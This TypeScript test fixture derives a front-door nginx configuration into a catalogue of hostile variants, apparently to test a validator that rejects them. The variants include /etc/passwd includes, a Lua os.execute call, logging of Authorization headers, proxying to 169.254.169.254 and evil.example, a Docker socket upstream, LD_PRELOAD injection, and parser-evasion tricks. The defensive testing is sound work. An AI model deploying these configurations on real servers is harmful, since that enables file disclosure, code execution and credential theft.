import { readFileSync } from 'node:fs'

/** The front door's configuration as its image has it: what the renderer writes for the list by DNS. */
export const NGINX_FILE = readFileSync(new URL('../../../deploy/front-door/nginx.conf', import.meta.url), 'utf8')

const put = (line: string, before: RegExp): string => NGINX_FILE.replace(before, (mark) => `${line}\n${mark}`)
export const inMain = (line: string): string => `${line}\n${NGINX_FILE}`
export const inHttp = (line: string): string => put(line, / {2}access_log off;/)
export const inUpstream = (line: string): string => put(line, / {4}keepalive 32;/)
export const inServer = (line: string): string => put(line, / {4}listen 8080;/)
export const inLocation = (line: string): string => put(line, / {6}proxy_pass /)

/** Configurations that would read files, run code, or send requests elsewhere. */
export const HOSTILE_CONFIGURATIONS: Readonly<Record<string, string>> = {
  'a module': inMain('load_module /var/lib/front-door/x.so;'),
  'a module of the image': inMain('load_module modules/ngx_http_js_module.so;'),
  'an include': inMain('include /etc/passwd;'),
  'an include in http': inHttp('include /etc/nginx/conf.d/*.conf;'),
  'a script of njs': inHttp('js_import main from x.js;'),
  'a variable of njs': inServer('js_set $x main.run;'),
  'a script of Perl': inHttp('perl_modules /var/lib/front-door;'),
  'a script of Lua': inLocation("content_by_lua_block { os.execute('id') }"),
  'a log to a file': inHttp('access_log /var/lib/front-door/log;'),
  'a log to a socket': inHttp('access_log syslog:server=169.254.169.254:80;'),
  'a format of log': inHttp("log_format x '$http_authorization';"),
  'errors elsewhere': inMain('error_log /var/lib/front-door/nginx.conf;'),
  'a process id elsewhere': NGINX_FILE.replace('pid nginx.pid', 'pid /etc/x'),
  'an environment': inMain('env LD_PRELOAD=/var/lib/front-door/x.so;'),
  'another user': inMain('user root;'),
  'another folder': inMain('working_directory /;'),
  'temporary files elsewhere': NGINX_FILE.replace('proxy_temp_path proxy', 'proxy_temp_path /tmp'),
  'files of the container': inServer('root /;'),
  'an alias': inLocation('alias /etc/;'),
  'an index of files': inLocation('autoindex on;'),
  uploads: inLocation('dav_methods PUT DELETE;'),
  'another target': NGINX_FILE.replace('proxy_pass http://backend', 'proxy_pass http://169.254.169.254'),
  'a target of the client': NGINX_FILE.replace('proxy_pass http://backend', 'proxy_pass http://$http_x'),
  'a socket as a target': NGINX_FILE.replace('proxy_pass http://backend', 'proxy_pass http://unix:/x:'),
  'a FastCGI target': inLocation('fastcgi_pass 127.0.0.1:9000;'),
  'a mirror': inLocation('mirror /m;'),
  'a name as a server': inUpstream('server evil.example:80;'),
  'a name of Docker as a server': inUpstream('server dashboard-control:3000 resolve;'),
  'a socket as a server': inUpstream('server unix:/run/docker-gate/docker.sock;'),
  'a server without a port': inUpstream('server 10.0.0.9;'),
  'a server with an option of its own': inUpstream('server 10.0.0.9:80 service=http;'),
  'a server with an option twice': inUpstream('server 10.0.0.9:80 down down;'),
  'another group': inHttp('upstream other { server 10.0.0.9:80; }'),
  'another port': NGINX_FILE.replace('listen 8080', 'listen 9090'),
  'another address': NGINX_FILE.replace('listen 8080', 'listen unix:/var/lib/front-door/x.sock'),
  'a certificate': inServer('ssl_certificate /etc/x.pem;'),
  'another resolver': NGINX_FILE.replace('resolver 127.0.0.11', 'resolver 8.8.8.8'),
  'a header with a secret': inServer('add_header X-Front-Door-Generation $http_authorization always;'),
  'a header of its own': inServer('add_header Set-Cookie x always;'),
  'an answer of its own': inLocation('return 302 http://evil.example/;'),
  'a map of files': inHttp('map $uri $x { include /etc/passwd; }'),
  'a stream': inMain('stream { server { listen 9; proxy_pass 10.0.0.9:22; } }'),
  'a regular expression': inServer('location ~ .* { proxy_pass http://backend; }'),
  'a condition': inServer('if ($host) { return 204; }'),
  'a quoted name': inMain('"load_module" x.so;'),
  'a name in single quotes': inMain("'include' /etc/passwd;"),
  'a name with an escape': inMain('load\\_module x.so;'),
  'a directive after a brace in quotes': inServer('proxy_set_header Host "}} load_module x.so; {";'),
  'a directive behind a comment that has ended': inMain('# harmless\nload_module x.so;'),
  'a directive after a hash in a word': inMain('worker_processes 2#x; load_module x.so;'),
  'a directive behind a hash in quotes': inServer('proxy_set_header Host "#"; root /;'),
  'a directive behind an escaped quote': inServer('proxy_set_header Connection "\\""; root /; #";'),
  'a line break in a value': inServer('proxy_set_header Host "$host\nX: y";'),
  'a line break by an escape': inServer('add_header X-Front-Door-Generation "a-1\\nSet-Cookie: x" always;'),
  'a directive behind a variable in braces': inServer(`proxy_set_header Host \${host}; root /;`),
  'a block that is closed too often': `${NGINX_FILE}}\nload_module x.so;`,
  'a block that is not closed': `${NGINX_FILE}http {`,
  'a word without an end': `${NGINX_FILE}load_module x.so`,
  'a quote without an end': inMain('error_log stderr "warn;'),
  'a backslash at the end': `${NGINX_FILE}pid nginx.pid\\`,
  'an empty directive': inMain(';'),
  'a block without a name': inMain('{ }'),
  'blocks without an end': 'events {'.repeat(5_000),
}
